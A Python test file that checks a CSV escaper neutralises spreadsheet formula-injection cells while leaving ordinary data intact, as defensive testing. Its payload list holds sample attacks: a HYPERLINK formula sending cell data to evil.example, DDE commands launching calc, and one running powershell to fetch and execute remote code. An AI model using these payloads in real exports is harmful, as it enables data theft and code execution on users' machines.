"""The CSV escaper: formula cells are neutralised, data is not corrupted, quoting holds."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from healthmentor.csv_safe import FORMULA_TRIGGERS, csv_cell, csv_text

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_prefixed_with_a_quote(payload):
    cell = csv_cell(payload)
    assert cell == "'" + payload
    assert cell[0] not in FORMULA_TRIGGERS


@pytest.mark.parametrize("text", ["", "Hypertension", "a=b", "x-ray", "'quoted", "E11.9", " =1"])
def test_plain_text_is_unchanged(text):
    assert csv_cell(text) == text


def test_numbers_dates_and_none_keep_their_meaning():
    assert csv_cell(-3) == "-3"
    assert csv_cell(-2.5) == "-2.5"
    assert csv_cell(Decimal("-0.125")) == "-0.125"
    assert csv_cell(True) == "true"
    assert csv_cell(None) == ""
    assert csv_cell(dt.date(2020, 2, 29)) == "2020-02-29"


def test_nul_bytes_are_dropped():
    assert csv_cell("a\x00b") == "ab"
    assert csv_cell("\x00=1") == "'=1"


def test_a_document_reads_back_cell_for_cell_with_quotes_commas_and_newlines():
    rows = [("id", "note"), (1, 'he said "no", then\nleft'), (2, "=2+2")]
    text = csv_text(rows)
    assert text.endswith("\r\n")
    back = list(csv.reader(io.StringIO(text)))
    assert back == [["id", "note"], ["1", 'he said "no", then\nleft'], ["2", "'=2+2"]]
